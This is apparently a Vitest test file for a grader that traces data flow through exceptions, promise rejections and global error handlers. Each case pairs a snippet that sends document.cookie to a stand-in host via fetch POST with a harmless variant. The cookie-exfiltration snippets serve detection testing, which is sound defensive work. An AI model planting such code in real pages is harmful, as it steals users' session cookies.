import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What is thrown, or what a promise is rejected with, who catches it has; `K` is the page's cookies. */
const gradeOf = (content: string): Promise<string> =>
  graded({
    content: `const send = (x) => fetch('https://a.example/', { method: 'POST', body: x }); const K = document.cookie; ${content}`,
  });

const SYNC = 'function f() { throw { d: K, other: 1 }; }';
const ASYNC = 'async function f() { throw { d: K, other: 1 }; }';

/** Each with a harmless twin: another property, another way, somebody else who catches it before. */
it.each([
  [`${SYNC} try { f(); } catch (e) { send(e.d); }`, `${SYNC} try { f(); } catch (e) { send(e.other); }`],
  [
    `${SYNC} function g() { f(); } try { g(); } catch ({ d }) { send(d); }`,
    `${SYNC} function g() { try { f(); } catch {} } try { g(); } catch ({ d }) { send(d); }`,
  ],
  [
    `${SYNC} function g() { try { f(); } finally { done(); } } try { g(); } catch (e) { send(e.d); }`,
    `${SYNC} function g() { try { f(); } catch (e) { throw { d: 1 }; } } try { g(); } catch (e) { send(e.d); }`,
  ],
  [
    "function f(x) { throw new Error('no ' + x); } try { f(K); } catch (e) { send(e.message); }",
    "function f(x) { throw new Error('no ' + x); } try { f(K); } catch (e) { send(e.name); }",
  ],
  [
    "try { throw new Error('no', { cause: K }); } catch (e) { send(e.cause); }",
    "try { throw new Error('no', { cause: K }); } catch (e) { send(e.message); }",
  ],
  [
    'class Bad extends Error { constructor(text) { super(text); } } try { throw new Bad(K); } catch (e) { send(e.message); }',
    'class Bad extends Error { constructor(text) { super("no"); } } try { throw new Bad(K); } catch (e) { send(e.message); }',
  ],
  [
    '[K].forEach((x) => { try { [x].forEach((y) => { throw y; }); } catch (e) { send(e); } });',
    '[K].forEach((x) => { try { [x].forEach((y) => { throw 1; }); } catch (e) { send(e); } });',
  ],
  [`${ASYNC} f().catch((e) => send(e.d));`, `${ASYNC} f().then((e) => send(e.d));`],
  [`${ASYNC} f().then(done, (e) => send(e.d));`, `${ASYNC} f().catch(() => 1).then((e) => send(e.d));`],
  [
    `${ASYNC} (async () => { try { await f(); } catch (e) { send(e.d); } })();`,
    `${ASYNC} (async () => { try { const r = await f(); send(JSON.stringify({ r })); } catch {} })();`,
  ],
  [
    `${ASYNC} const g = async () => { await f(); }; g().finally(done).catch((e) => send(e.d));`,
    `${ASYNC} const g = async () => { await f().catch(done); }; g().catch((e) => send(e.d));`,
  ],
  [
    'Promise.resolve(K).then((x) => { throw x; }).catch(send);',
    'Promise.resolve(K).then((x) => { throw x; }).then(send);',
  ],
  [
    'const p = Promise.resolve(K).then((x) => { throw new Error(x); }); p.then(done, (e) => send(e.message));',
    'const p = Promise.resolve(K).then((x) => { throw new Error(x); }); p.catch(done).then((e) => send(e.message));',
  ],
  ['new Promise((ok, no) => no(K)).catch(send);', 'new Promise((ok, no) => no(K)).then(send);'],
  [
    'const p = Promise.reject(K); (async () => { try { await p; } catch (e) { send(e); } })();',
    'const p = Promise.reject(K); (async () => { try { send(await p); } catch (e) {} })();',
  ],
  [
    'const { promise, reject } = Promise.withResolvers(); reject(K); promise.catch(send);',
    'const { promise, reject } = Promise.withResolvers(); reject(K); promise.then(send);',
  ],
  [
    'Promise.allSettled([Promise.reject(K)]).then(([one]) => send(one.reason));',
    'Promise.allSettled([Promise.reject(K)]).then(([one]) => send(one.value));',
  ],
  ['Promise.race([Promise.resolve({ d: K })]).then((one) => send(one.d));', 'Promise.race([{ d: K }]).catch(send);'],
  [
    'const c = new AbortController(); c.abort(K); send(c.signal.reason);',
    'const c = new AbortController(); c.abort(K); send(c.signal.aborted);',
  ],
  // What nobody catches is told to who listens for that.
  [
    `window.onerror = (text, file, line, column, e) => send(e.d); ${SYNC} f();`,
    `window.onerror = (text, file, line, column, e) => send(e.other); ${SYNC} f();`,
  ],
  [
    `addEventListener('error', (e) => send(e.message)); setTimeout(() => { throw new Error(K); });`,
    `addEventListener('error', (e) => send(e.message)); setTimeout(() => { throw { d: K }; });`,
  ],
  [
    `addEventListener('unhandledrejection', (e) => send(e.reason.d)); ${ASYNC} f().then(done);`,
    `addEventListener('unhandledrejection', (e) => send(e.reason.d)); ${ASYNC} f().then(done).catch(done);`,
  ],
  [
    `self.onunhandledrejection = (e) => send(e.reason.d); ${ASYNC} f();`,
    `self.onunhandledrejection = (e) => send(e.reason.d); ${ASYNC} (async () => { try { await f(); } catch {} })();`,
  ],
  [
    "addEventListener('error', (e) => send(e.error)); throw K;",
    "addEventListener('error', (e) => send(e.error)); try { throw K; } catch {}",
  ],
  [
    "addEventListener('error', (e) => send(e.message)); reportError(K);",
    "addEventListener('error', (e) => send(e.filename)); reportError(K);",
  ],
  [
    "addEventListener('unhandledrejection', (e) => send(e.reason)); new Promise((ok, no) => no(K));",
    "addEventListener('unhandledrejection', (e) => send(e.reason)); new Promise((ok, no) => ok(K));",
  ],
])('%s', async (harmful, harmless) => {
  expect(await gradeOf(harmful)).toBe('F');
  expect(await gradeOf(harmless)).not.toBe('F');
});

it('does not lose all that it knows in a long line of functions that pass on what is thrown', async () => {
  const line = Array.from({ length: 20_000 }, (_, at) => `function f${at + 1}(x) { f${at}(x); }`).join('\n');
  expect(
    await gradeOf(`function f0(x) { throw x; } ${line} try { f20000(K); } catch (e) { console.log(e); } send(K);`),
  ).toBe('F');
});
